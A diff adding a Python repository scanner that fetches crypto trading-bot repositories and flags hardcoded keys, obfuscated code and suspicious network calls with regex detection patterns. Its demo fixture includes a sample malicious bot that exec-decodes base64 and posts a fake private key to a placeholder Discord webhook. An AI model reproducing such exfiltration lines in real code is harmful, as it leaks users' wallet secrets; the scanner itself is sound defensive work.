@@ -0,0 +1,533 @@
+#!/usr/bin/env python3
+"""
+Repository Scanner for Cash Daily Workflow
+
+This module runs local static checks over candidate bot repositories:
+1. Fetches each repository into a scratch directory with a shallow `git clone`, or unpacks a
+   local tarball fixture (`<owner>__<repo>.tar.gz`) for offline runs
+2. Skips repositories over a size cap, and never re-scans a repository whose content hash
+   (HEAD commit, or tarball digest) matches the last scan
+3. Scans the trees in a process pool, each within its own time budget, for hardcoded keys,
+   suspicious network calls, obfuscated code, tests, and declared dependencies
+4. Turns the findings into security and quality scores (0-100)
+
+Usage:
+    from repo_scanner import RepoScanner
+    scanner = RepoScanner("cache/repo_scratch", cache_path="cache/repo_scans.json")
+    scans = scanner.scan_many(repositories)
+"""
+
+import os
+import re
+import json
+import time
+import shutil
+import hashlib
+import logging
+import tarfile
+import subprocess
+import concurrent.futures
+from pathlib import Path
+
+from vuln_matcher import parse_manifests
+
+logger = logging.getLogger("Cash.RepoScanner")
+
+# Checks run over every scanned file: (check, pattern name, regex, literal triggers).
+# A regex only runs on files whose lowercased text contains one of its triggers.
+CHECKS = [
+    ("hardcoded_key", "aws_access_key", r"\bAKIA[0-9A-Z]{16}\b", ("akia",)),
+    ("hardcoded_key", "private_key_block", r"-----BEGIN (?:RSA |EC |DSA |OPENSSH )?PRIVATE KEY-----", ("private key-----",)),
+    ("hardcoded_key", "wallet_private_key", r"(?i:priv(?:ate)?_?key)\s*[:=]\s*['\"](?:0x)?[0-9a-fA-F]{64}['\"]", ("priv",)),
+    ("hardcoded_key", "api_secret", r"\b(?i:(?:api|secret|access)[_-]?(?:key|secret|token))\s*[:=]\s*['\"][A-Za-z0-9/+_\-]{24,}['\"]",
+     ("key", "secret", "token")),
+    ("hardcoded_key", "github_token", r"\bgh[pousr]_[A-Za-z0-9]{36}\b", ("ghp_", "gho_", "ghu_", "ghs_", "ghr_")),
+    ("hardcoded_key", "telegram_token", r"\b\d{8,10}:AA[0-9A-Za-z_\-]{33}\b", (":aa",)),
+    ("suspicious_network", "discord_webhook", r"discord(?:app)?\.com/api/webhooks/", ("discord",)),
+    ("suspicious_network", "telegram_bot_api", r"api\.telegram\.org/bot", ("api.telegram.org",)),
+    ("suspicious_network", "paste_site", r"\b(?:pastebin\.com|paste\.ee|hastebin\.com|transfer\.sh)/",
+     ("pastebin", "paste.ee", "hastebin", "transfer.sh")),
+    ("suspicious_network", "tunnel", r"\.ngrok(?:-free)?\.(?:io|app)\b", ("ngrok",)),
+    ("suspicious_network", "raw_ip_url", r"https?://(?!127\.|0\.0\.0\.0)\d{1,3}(?:\.\d{1,3}){3}\b", ("://",)),
+    ("suspicious_network", "remote_exec", r"\b(?:exec|eval)\s*\(\s*(?:requests\.get|urlopen|urllib\.request\.urlopen)\s*\(", ("exec", "eval")),
+    ("suspicious_network", "curl_pipe_shell", r"\bcurl\s[^|\n]*\|\s*(?:ba|z)?sh\b", ("curl",)),
+    ("obfuscation", "exec_decoded",
+     r"\b(?:exec|eval)\s*\(\s*(?:base64\.b64decode|codecs\.decode|zlib\.decompress|marshal\.loads|bytes\.fromhex)", ("exec", "eval")),
+    ("obfuscation", "marshal_loads", r"\bmarshal\.loads\s*\(", ("marshal",)),
+    ("obfuscation", "hex_escapes", r"(?:\\x[0-9a-fA-F]{2}){40,}", ("\\x",)),
+    ("obfuscation", "long_base64", r"['\"][A-Za-z0-9+/]{400,}={0,2}['\"]", None),
+    ("obfuscation", "js_eval_decoded", r"\beval\s*\(\s*(?:atob|unescape|Function)\s*\(", ("eval",))
+]
+
+_COMPILED_CHECKS = [(check, name, re.compile(pattern), triggers) for check, name, pattern, triggers in CHECKS]
+_CHECK_NAMES = sorted({check for check, _, _, _ in CHECKS})
+
+# How each check is described in security concerns
+CHECK_LABELS = {
+    "hardcoded_key": "hardcoded key(s)",
+    "obfuscation": "obfuscated code pattern(s)",
+    "suspicious_network": "suspicious network call(s)"
+}
+
+# Files that are scanned, by extension or exact name
+SCAN_EXTENSIONS = {
+    ".py", ".js", ".mjs", ".cjs", ".ts", ".sh", ".go", ".rs", ".rb", ".php", ".java", ".sol",
+    ".json", ".yml", ".yaml", ".toml", ".cfg", ".ini", ".txt", ".env"
+}
+SCAN_NAMES = {".env", "Dockerfile", "Makefile"}
+
+# Directories that hold vendored, generated, or bundled code
+SKIP_DIRS = {".git", "node_modules", "vendor", "dist", "build", "__pycache__", ".venv", "venv", ".tox"}
+
+_TEST_FILE = re.compile(r"^(?:test_.*\.py|.*_test\.(?:py|go)|.*\.(?:test|spec)\.[jt]sx?)$")
+_TEST_DIRS = {"test", "tests", "__tests__", "spec"}
+
+# Findings kept per check in a scan result
+MAX_FINDINGS = 20
+
+
+def _file_sha256(f):
+    """SHA-256 hex digest of an open binary file, read in chunks"""
+    digest = hashlib.sha256()
+    for chunk in iter(lambda: f.read(1024 * 1024), b""):
+        digest.update(chunk)
+    return digest.hexdigest()
+
+
+def _extract(archive, destination):
+    """
+    Extract an untrusted tarball
+
+    Uses tarfile's "data" filter where it exists (Python 3.11.4+). Older Pythons get the
+    same guarantees from a member check: only regular files and directories inside the
+    destination are extracted, without special permission bits.
+    """
+    if hasattr(tarfile, "data_filter"):
+        archive.extractall(destination, filter="data")
+        return
+    root = Path(destination).resolve()
+    members = []
+    for member in archive.getmembers():
+        # Links, devices, and FIFOs are never needed for a static scan
+        if not (member.isfile() or member.isdir()):
+            continue
+        target = (root / member.name).resolve()
+        if target != root and root not in target.parents:
+            raise tarfile.TarError(f"Archive member outside the destination: {member.name}")
+        member.mode &= 0o755
+        members.append(member)
+    archive.extractall(destination, members=members)
+
+
+def scan_tree(root, time_budget=60.0, max_files=5000, max_file_bytes=1024 * 1024):
+    """
+    Run the static checks over a repository tree
+
+    Runs in a worker process. The scan stops early (and says so) when it runs out of
+    time or files.
+
+    Args:
+        root (str): Repository directory
+        time_budget (float): Seconds the scan may take
+        max_files (int): Maximum files scanned
+        max_file_bytes (int): Files larger than this are skipped
+
+    Returns:
+        dict: files, bytes, findings, counts per check, has_tests, test_files,
+            dependencies, manifest_dependencies (declared packages), timed_out, truncated
+    """
+    root = Path(root)
+    deadline = time.monotonic() + time_budget
+    result = {
+        "files": 0,
+        "bytes": 0,
+        "findings": [],
+        "counts": {check: 0 for check in _CHECK_NAMES},
+        "has_tests": False,
+        "test_files": 0,
+        "dependencies": 0,
+        "manifest_dependencies": [],
+        "timed_out": False,
+        "truncated": False
+    }
+
+    for directory, dirnames, filenames in os.walk(root):
+        if result["timed_out"] or result["truncated"]:
+            break
+        dirnames[:] = sorted(name for name in dirnames if name not in SKIP_DIRS)
+        relative_dir = Path(directory).relative_to(root)
+        in_test_dir = any(part.lower() in _TEST_DIRS for part in relative_dir.parts)
+
+        for filename in sorted(filenames):
+            if time.monotonic() > deadline:
+                result["timed_out"] = True
+                break
+            if result["files"] >= max_files:
+                result["truncated"] = True
+                break
+
+            if _TEST_FILE.match(filename) or (in_test_dir and filename.endswith((".py", ".js", ".ts", ".go"))):
+                result["test_files"] += 1
+
+            if Path(filename).suffix.lower() not in SCAN_EXTENSIONS and filename not in SCAN_NAMES:
+                continue
+            path = Path(directory) / filename
+            try:
+                if path.is_symlink() or path.stat().st_size > max_file_bytes:
+                    continue
+                text = path.read_text(errors="ignore")
+            except OSError:
+                continue
+            result["files"] += 1
+            result["bytes"] += len(text)
+
+            if filename.endswith(".min.js"):
+                continue
+            lowered = text.lower()
+            for check, name, regex, triggers in _COMPILED_CHECKS:
+                if triggers is not None and not any(trigger in lowered for trigger in triggers):
+                    continue
+                for match in regex.finditer(text):
+                    result["counts"][check] += 1
+                    if sum(1 for finding in result["findings"] if finding["check"] == check) < MAX_FINDINGS:
+                        result["findings"].append({
+                            "check": check,
+                            "pattern": name,
+                            "path": str(relative_dir / filename),
+                            "line": text.count("\n", 0, match.start()) + 1
+                        })
+
+    result["has_tests"] = result["test_files"] > 0
+    # Kept in the scan cache so new advisories can be matched without re-scanning
+    result["manifest_dependencies"] = parse_manifests(root)
+    result["dependencies"] = len(result["manifest_dependencies"])
+    return result
+
+
+def describe_findings(counts):
+    """Summarize finding counts, e.g. 1 hardcoded key(s), 2 obfuscated code pattern(s)"""
+    return ", ".join(f"{count} {CHECK_LABELS.get(check, check)}" for check, count in sorted(counts.items()) if count)
+
+
+def score_scan(scan):
+    """
+    Security and quality scores (0-100) for a scan result
+
+    Security starts at 100 and loses 30 per hardcoded key (up to 60), 25 per obfuscation
+    pattern (up to 50), and 15 per suspicious network call (up to 45). Quality starts at 50,
+    gains 30 for tests, and gains 20 for a modest dependency list (1-40), 10 for 41-100.
+
+    Args:
+        scan (dict): Result of scan_tree
+
+    Returns:
+        tuple: (security score, quality score)
+    """
+    counts = scan.get("counts", {})
+    security = 100
+    security -= min(60, 30 * counts.get("hardcoded_key", 0))
+    security -= min(50, 25 * counts.get("obfuscation", 0))
+    security -= min(45, 15 * counts.get("suspicious_network", 0))
+
+    dependencies = scan.get("dependencies", 0)
+    quality = 50 + (30 if scan.get("has_tests") else 0)
+    if 1 <= dependencies <= 40:
+        quality += 20
+    elif 40 < dependencies <= 100:
+        quality += 10
+    return max(0, security), min(100, quality)
+
+
+class RepoScanner:
+    """Fetches candidate repositories and scans them in a process pool"""
+
+    def __init__(self, scratch_dir, cache_path=None, fixtures_dir=None, clone=True, workers=None,
+                 fetch_workers=4, timeout=120.0, max_mb=200, max_files=5000):
+        """
+        Initialize the scanner
+
+        Args:
+            scratch_dir (str): Directory repositories are fetched into (cleaned up after scanning)
+            cache_path (str): JSON file of past scans, keyed by repository and content hash
+            fixtures_dir (str): Directory of `<owner>__<repo>.tar.gz` fixtures, used before cloning
+            clone (bool): Shallow-clone repositories that have no fixture
+            workers (int): Scan processes (CPU count if None)
+            fetch_workers (int): Concurrent clones/unpacks
+            timeout (float): Seconds allowed per repository, for the clone and for the scan
+            max_mb (float): Largest repository fetched and scanned
+            max_files (int): Maximum files scanned per repository
+        """
+        self.scratch_dir = Path(scratch_dir)
+        self.cache_path = Path(cache_path) if cache_path else None
+        self.fixtures_dir = Path(fixtures_dir) if fixtures_dir else None
+        self.clone = clone and shutil.which("git") is not None
+        if clone and not self.clone:
+            logger.warning("git not found; only tarball fixtures will be scanned")
+        self.workers = workers or os.cpu_count() or 1
+        self.fetch_workers = max(1, fetch_workers)
+        self.timeout = timeout
+        self.max_bytes = int(max_mb * 1024 * 1024)
+        self.max_files = max_files
+        self.cache = self._load_cache()
+        self.stats = {"scanned": 0, "cached": 0, "too_large": 0, "timed_out": 0, "errors": 0}
+
+    def _load_cache(self):
+        """Load past scans (empty if there is no cache file)"""
+        if self.cache_path is None or not self.cache_path.exists():
+            return {}
+        try:
+            with open(self.cache_path, 'r') as f:
+                return json.load(f)
+        except Exception as e:
+            logger.warning(f"Could not load repository scan cache from {self.cache_path}: {str(e)}")
+            return {}
+
+    def save_cache(self):
+        """Write past scans to the cache file (atomically)"""
+        if self.cache_path is None:
+            return
+        self.cache_path.parent.mkdir(exist_ok=True, parents=True)
+        tmp_path = self.cache_path.with_suffix(self.cache_path.suffix + ".tmp")
+        with open(tmp_path, 'w') as f:
+            json.dump(self.cache, f)
+        os.replace(tmp_path, self.cache_path)
+
+    def _cached(self, key, content_hash):
+        """The cached scan for a repository if its content hash is unchanged"""
+        entry = self.cache.get(key)
+        if entry and entry.get("content_hash") == content_hash:
+            return entry["scan"]
+        return None
+
+    def _fixture(self, name):
+        """Path of a repository's tarball fixture (None if there is none)"""
+        if self.fixtures_dir is None:
+            return None
+        stem = name.replace("/", "__")
+        for suffix in (".tar.gz", ".tgz", ".tar"):
+            path = self.fixtures_dir / f"{stem}{suffix}"
+            if path.is_file():
+                return path
+        return None
+
+    def _fetch(self, repo):
+        """
+        Fetch a repository into the scratch area, unless its last scan is still current
+
+        Runs in a fetch thread.
+
+        Args:
+            repo (dict): Repository entry (name, url, size_kb)
+
+        Returns:
+            dict: {"scan"} for a cached or skipped repository, else {"path", "content_hash"}
+        """
+        name = repo["name"]
+        key = name.lower()
+        size_kb = repo.get("size_kb")
+        if size_kb and size_kb * 1024 > self.max_bytes:
+            return {"scan": {"skipped": "too_large", "size_kb": size_kb}}
+
+        destination = self.scratch_dir / name.replace("/", "__")
+        shutil.rmtree(destination, ignore_errors=True)
+
+        fixture = self._fixture(name)
+        if fixture is not None:
+            with open(fixture, 'rb') as f:
+                content_hash = "sha256:" + _file_sha256(f)
+            cached = self._cached(key, content_hash)
+            if cached is not None:
+                return {"scan": cached, "cached": True}
+
+            with tarfile.open(fixture) as archive:
+                members = archive.getmembers()
+                size = sum(member.size for member in members if member.isfile())
+                if size > self.max_bytes:
+                    return {"scan": {"skipped": "too_large", "size_kb": size // 1024}}
+                destination.mkdir(parents=True)
+                _extract(archive, destination)
+            return {"path": destination, "content_hash": content_hash}
+
+        if not self.clone:
+            return {"scan": {"skipped": "unavailable"}}
+
+        url = repo.get("url") or f"https://github.com/{name}"
+        env = dict(os.environ, GIT_TERMINAL_PROMPT="0")
+        remote = subprocess.run(
+            ["git", "ls-remote", url, "HEAD"], capture_output=True, text=True, timeout=self.timeout, env=env
+        )
+        if remote.returncode != 0 or not remote.stdout.strip():
+            raise Exception(f"git ls-remote failed: {(remote.stderr.strip().splitlines() or ['no HEAD'])[0][:200]}")
+        content_hash = "git:" + remote.stdout.split()[0]
+        cached = self._cached(key, content_hash)
+        if cached is not None:
+            return {"scan": cached, "cached": True}
+
+        destination.parent.mkdir(parents=True, exist_ok=True)
+        clone = subprocess.run(
+            ["git", "clone", "--depth", "1", "--single-branch", "--no-tags", "--quiet", url, str(destination)],
+            capture_output=True, text=True, timeout=self.timeout, env=env
+        )
+        if clone.returncode != 0:
+            raise Exception(f"git clone failed: {(clone.stderr.strip().splitlines() or ['unknown error'])[0][:200]}")
+
+        size = sum(path.stat().st_size for path in destination.rglob("*") if path.is_file() and ".git" not in path.parts)
+        if size > self.max_bytes:
+            shutil.rmtree(destination, ignore_errors=True)
+            return {"scan": {"skipped": "too_large", "size_kb": size // 1024}}
+        return {"path": destination, "content_hash": content_hash}
+
+    def scan_many(self, repositories):
+        """
+        Fetch and scan repositories
+
+        Fetches run in threads; as each tree lands in the scratch area it is handed to the
+        process pool. Repositories whose content hash matches the cache are not fetched or
+        scanned again. A scan that overruns its time budget reports `timed_out`, and one
+        whose worker does not answer at all within twice the budget is abandoned.
+
+        Args:
+            repositories (list): Repository entries (name, url, optional size_kb)
+
+        Returns:
+            dict: Lowercased full name -> scan result (with security_score and quality_score),
+                or {"skipped": reason} / {"error": message}
+        """
+        results = {}
+        self.stats = {"scanned": 0, "cached": 0, "too_large": 0, "timed_out": 0, "errors": 0}
+        if not repositories:
+            return results
+        self.scratch_dir.mkdir(parents=True, exist_ok=True)
+
+        fetch_pool = concurrent.futures.ThreadPoolExecutor(max_workers=self.fetch_workers)
+        scan_pool = concurrent.futures.ProcessPoolExecutor(max_workers=self.workers)
+        pending = {fetch_pool.submit(self._fetch, repo): ("fetch", repo, None) for repo in repositories}
+        scan_started = {}
+        try:
+            while pending:
+                done, _ = concurrent.futures.wait(pending, timeout=1.0, return_when=concurrent.futures.FIRST_COMPLETED)
+
+                for future in done:
+                    stage, repo, fetched = pending.pop(future)
+                    key = repo["name"].lower()
+                    try:
+                        outcome = future.result()
+                    except Exception as e:
+                        logger.warning(f"Could not {stage} repository {repo['name']}: {str(e)}")
+                        self.stats["errors"] += 1
+                        results[key] = {"error": str(e)}
+                        continue
+
+                    if stage == "fetch":
+                        if "scan" in outcome:
+                            if outcome.get("cached"):
+                                self.stats["cached"] += 1
+                            elif outcome["scan"].get("skipped") == "too_large":
+                                self.stats["too_large"] += 1
+                            results[key] = outcome["scan"]
+                            continue
+                        scan_future = scan_pool.submit(
+                            scan_tree, str(outcome["path"]), self.timeout, self.max_files, self.max_bytes
+                        )
+                        pending[scan_future] = ("scan", repo, outcome)
+                        scan_started[scan_future] = time.monotonic()
+                        continue
+
+                    # A finished scan: score it, cache it, and clean up its tree
+                    outcome["security_score"], outcome["quality_score"] = score_scan(outcome)
+                    outcome["content_hash"] = fetched["content_hash"]
+                    self.cache[key] = {"content_hash": fetched["content_hash"], "scanned_at": time.time(), "scan": outcome}
+                    self.stats["scanned"] += 1
+                    if outcome["timed_out"]:
+                        self.stats["timed_out"] += 1
+                    results[key] = outcome
+                    shutil.rmtree(fetched["path"], ignore_errors=True)
+
+                # Abandon scans whose worker has not answered within twice the budget
+                now = time.monotonic()
+                for future, started in list(scan_started.items()):
+                    if future in pending and now - started > 2 * self.timeout:
+                        _, repo, fetched = pending.pop(future)
+                        logger.warning(f"Scan of {repo['name']} did not finish in {2 * self.timeout:.0f}s")
+                        self.stats["timed_out"] += 1
+                        results[repo["name"].lower()] = {"error": "scan timed out"}
+                        shutil.rmtree(fetched["path"], ignore_errors=True)
+        finally:
+            fetch_pool.shutdown(wait=True, cancel_futures=True)
+            scan_pool.shutdown(wait=False, cancel_futures=True)
+
+        self.save_cache()
+        logger.info(f"Scanned {self.stats['scanned']} repositories ({self.stats['cached']} unchanged since the last scan)")
+        return results
+
+
+def write_fixture(fixtures_dir, name, files):
+    """
+    Write a tarball fixture for a repository
+
+    Args:
+        fixtures_dir (str): Fixtures directory
+        name (str): Repository full name
+        files (dict): Relative path -> file content
+
+    Returns:
+        Path: The tarball
+    """
+    import io
+
+    fixtures_dir = Path(fixtures_dir)
+    fixtures_dir.mkdir(parents=True, exist_ok=True)
+    path = fixtures_dir / f"{name.replace('/', '__')}.tar.gz"
+    with tarfile.open(path, "w:gz") as archive:
+        for relative_path, content in sorted(files.items()):
+            data = content.encode("utf-8")
+            info = tarfile.TarInfo(relative_path)
+            info.size = len(data)
+            info.mtime = 1_700_000_000
+            archive.addfile(info, io.BytesIO(data))
+    return path
+
+
+if __name__ == "__main__":
+    # If run directly, hunt against the local GitHub stub with fixtures for two repositories,
+    # then scan again to show unchanged repositories coming from the cache
+    import tempfile
+    from api_stubs import LocalAPIStub
+    from bot_hunter import BotHunter
+    from vuln_matcher import AdvisoryIndex
+
+    logging.basicConfig(level=logging.WARNING)
+
+    with tempfile.TemporaryDirectory() as work_dir, LocalAPIStub() as stub:
+        fixtures_dir = Path(work_dir) / "fixtures"
+        write_fixture(fixtures_dir, "freqtrade/freqtrade", {
+            "freqtrade/bot.py": "import ccxt\n\nclass Bot:\n    def run(self):\n        return ccxt.binance()\n",
+            "tests/test_bot.py": "def test_bot():\n    assert True\n",
+            "requirements.txt": "ccxt==4.2.0\npandas>=2.0\nnumpy\n"
+        })
+        write_fixture(fixtures_dir, "kiridefi/DeFi_Trading_Bot", {
+            "bot.py": (
+                "import base64, requests\n"
+                "PRIVATE_KEY = '" + "ab" * 32 + "'\n"
+                "exec(base64.b64decode('cHJpbnQoJ2hpJyk='))\n"
+                "requests.post('https://discord.com/api/webhooks/123/abc', json={'key': PRIVATE_KEY})\n"
+            ),
+            "package.json": json.dumps({"dependencies": {"web3": "^1.2.0", "axios": "0.21.0"}})
+        })
+
+        scanner = RepoScanner(Path(work_dir) / "scratch", cache_path=Path(work_dir) / "scans.json",
+                              fixtures_dir=fixtures_dir, clone=False, workers=2)
+        config = {
+            "github_topics": ["crypto-trading-bot", "trading-bot", "crypto-bot"],
+            "min_stars": 100,
+            "github_api_url": stub.url,
+            "static_analysis": {"max_repos": 10}
+        }
+        advisories = AdvisoryIndex.load(Path(__file__).parent / "advisories.json")
+        results = BotHunter(config, repo_scanner=scanner, advisories=advisories).hunt()
+        print(json.dumps({
+            "top_picks": [(pick["repository"], round(pick["overall_score"], 1)) for pick in results["top_picks"]],
+            "security_concerns": results["security_concerns"],
+            "first_run": results["static_analysis"],
+            "second_run": (BotHunter(config, repo_scanner=scanner, advisories=advisories).hunt(), scanner.stats)[1]
+        }, indent=4))